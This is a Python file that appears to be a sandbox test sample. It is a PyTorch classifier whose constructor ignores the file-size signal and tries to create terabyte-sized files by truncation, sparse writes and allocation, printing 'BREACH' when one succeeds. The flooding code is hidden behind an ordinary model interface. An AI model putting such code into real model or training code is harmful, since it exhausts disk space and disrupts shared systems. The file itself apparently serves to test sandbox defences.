# group: floods
# tries: makes files of terabytes by seeking, truncating and allocating
# static: unsafe
# sandbox: trained

import os
import signal

import torch.nn as nn


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        for number in range(4):
            try:
                descriptor = os.open(f"archloop-flood-{number}", os.O_CREAT | os.O_RDWR)
            except OSError:
                break
            for act in (
                lambda: os.ftruncate(descriptor, 2**40),
                lambda: os.pwrite(descriptor, b"x", 2**40),
                lambda: os.posix_fallocate(descriptor, 0, 2**34),
            ):
                try:
                    act()
                    print("BREACH a file of", os.fstat(descriptor).st_size)
                except OSError:
                    pass
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
